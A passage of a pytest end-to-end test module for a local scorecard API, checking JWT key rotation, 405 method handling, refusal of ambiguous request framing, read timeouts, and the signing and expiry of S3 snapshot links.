    old = SigningKey("k-1", "first-local-signing-key-long-enough-0123456789")
    new = SigningKey("k-2", "second-local-signing-key-long-enough-0123456789")
    keys = KeySet(new, old)
    with local_server(
        tmp_path_factory.mktemp("keyed-server"), {"SCORECARD_JWT_SECRET": keys.to_json()}
    ) as base:
        keyed = Server(base)
        assert keyed.request("GET", "/v1/partners", token=token("ops", secret=keys)).status == 200
        assert keyed.request("GET", "/v1/partners", token=token("ops", secret=KeySet(old))).status == 200
        refused = keyed.request("GET", "/v1/partners", token=token("ops"))  # the default local key
        assert refused.status == 401
        assert refused.body["error"]["code"] == "unauthorized"
        a_day = token("ops", secret=keys, ttl=timedelta(hours=24))
        assert keyed.request("GET", "/v1/partners", token=a_day).status == 200
        forever = jwt.encode(
            {"role": "ops", "sub": "ops", "iat": int(datetime.now(UTC).timestamp()), "exp": 4102444800},
            new.secret,
            headers={"kid": new.kid},
        )
        assert keyed.request("GET", "/v1/partners", token=forever).status == 401


# ---- what the server answers itself: methods, lengths, snapshot links ---------------------------------


def _raw(server: Server, request: bytes, *, read_timeout: float = 15.0) -> tuple[int, dict[str, str], Any]:
    """Send bytes as they are (urllib would fix the framing) and parse the one answer."""
    import http.client
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(server.base)
    with socket.create_connection((url.hostname, url.port), timeout=read_timeout) as sock:
        sock.sendall(request)
        response = http.client.HTTPResponse(sock, method=request.split(b" ", 1)[0].decode())
        response.begin()
        raw = response.read()
        return response.status, dict(response.getheaders()), json.loads(raw) if raw else None


@pytest.mark.parametrize("method", ["TRACE", "OPTIONS", "HEAD", "CONNECT", "BREW", "DELETE"])
def test_a_method_nothing_answers_is_405_in_the_error_shape(server: Server, method: str) -> None:
    status, headers, body = _raw(
        server, f"{method} /v1/partners HTTP/1.1\r\nHost: local\r\nContent-Length: 0\r\n\r\n".encode()
    )
    assert status == 405
    assert headers["Allow"] == "GET"
    assert headers["Content-Type"] == "application/json"
    if method != "HEAD":  # a HEAD answer has no body by definition
        assert body["error"]["code"] == "method_not_allowed"
        assert set(body["error"]) == {"code", "message", "details"}


def test_405_names_every_method_of_the_path(server: Server) -> None:
    status, headers, body = _raw(server, b"TRACE /v1/partners/acme-01 HTTP/1.1\r\nHost: local\r\n\r\n")
    assert (status, headers["Allow"], body["error"]["code"]) == (405, "PATCH, PUT", "method_not_allowed")
    status, headers, _ = _raw(server, b"OPTIONS /_local/run/daily HTTP/1.1\r\nHost: local\r\n\r\n")
    assert (status, headers["Allow"]) == (405, "POST")


@pytest.mark.parametrize(
    ("framing", "status", "code"),
    [
        ("Transfer-Encoding: chunked\r\n", 411, "length_required"),
        ("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", 411, "length_required"),
        ("Content-Length: -5\r\n", 400, "bad_request"),
        ("Content-Length: abc\r\n", 400, "bad_request"),
        ("Content-Length: 5, 5\r\n", 400, "bad_request"),
        ("Content-Length: 5\r\nContent-Length: 6\r\n", 400, "bad_request"),
    ],
    ids=["chunked", "chunked-and-length", "negative", "not-a-number", "list", "two-lengths"],
)
def test_a_body_without_a_usable_length_is_refused_not_awaited(
    server: Server, framing: str, status: int, code: str
) -> None:
    request = (
        f"POST /v1/events HTTP/1.1\r\nHost: local\r\nAuthorization: Bearer {token('service')}\r\n"
        f'Content-Type: application/json\r\n{framing}\r\n5\r\n{{"a"}}\r\n0\r\n\r\n'
    )
    got_status, headers, body = _raw(server, request.encode(), read_timeout=10)
    assert (got_status, body["error"]["code"]) == (status, code)
    assert headers["Connection"] == "close"


def test_a_body_shorter_than_its_length_is_answered_after_the_read_timeout(server: Server) -> None:
    import time

    request = (
        f"POST /v1/events HTTP/1.1\r\nHost: local\r\nAuthorization: Bearer {token('service')}\r\n"
        'Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"events": ['
    )
    started = time.monotonic()
    status, _, body = _raw(server, request.encode(), read_timeout=20)
    assert (status, body["error"]["code"]) == (400, "bad_request")
    assert time.monotonic() - started < 15  # the server's 5 s read timeout, not the client's patience


def test_a_snapshot_link_opens_on_the_local_server(server: Server) -> None:
    """html_url (API and email) is signed for the local server, which serves moto's S3."""
    from scorecard.domain.snapshot import Month

    partner = "link-e2e-01"
    month = Month.of(datetime.now(UTC).date()).previous()
    first = month.first_day
    assert server.request(
        "PUT", f"/v1/partners/{partner}", token=token("ops"), body={"name": "Link <Works>"}
    ).status in (200, 201)
    job = {"partner_id": partner, "job_id": "L-1"}
    events = [
        {"event_id": "link-e2e:L-1:o", "type": "job.offered", **job, "occurred_at": f"{first}T09:00:00Z",
         "value": "100.00", "part_count": 2, "due_date": (first + timedelta(days=20)).isoformat()},
        {"event_id": "link-e2e:L-1:a", "type": "job.accepted", **job, "occurred_at": f"{first}T10:00:00Z"},
    ]  # fmt: skip
    assert server.request("POST", "/v1/events", token=token("service"), body={"events": events}).status == 200
    assert server.request("POST", f"/_local/run/monthly?month={month}&email=false").status == 200

    snapshot = server.request(
        "GET", f"/v1/partners/{partner}/snapshots/{month}", token=token("partner", partner)
    )
    assert snapshot.status == 200
    link = snapshot.body["html_url"]
    assert link.startswith(f"{server.base}/_local/s3/") and "X-Amz-Signature=" in link
    with urllib.request.urlopen(link, timeout=30) as response:  # no token: the link is the credential
        assert response.status == 200
        assert response.headers["Content-Type"].startswith("text/html")
        html = response.read().decode()
    assert "Link &lt;Works&gt;" in html and "<html" in html.lower()

    stale = urllib.parse.urlsplit(link)._replace(
        query=urllib.parse.urlencode(
            {
                **dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(link).query)),
                "X-Amz-Date": "20200101T000000Z",
            }
        )
    )
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(urllib.parse.urlunsplit(stale), timeout=30)
    assert refused.value.code == 403
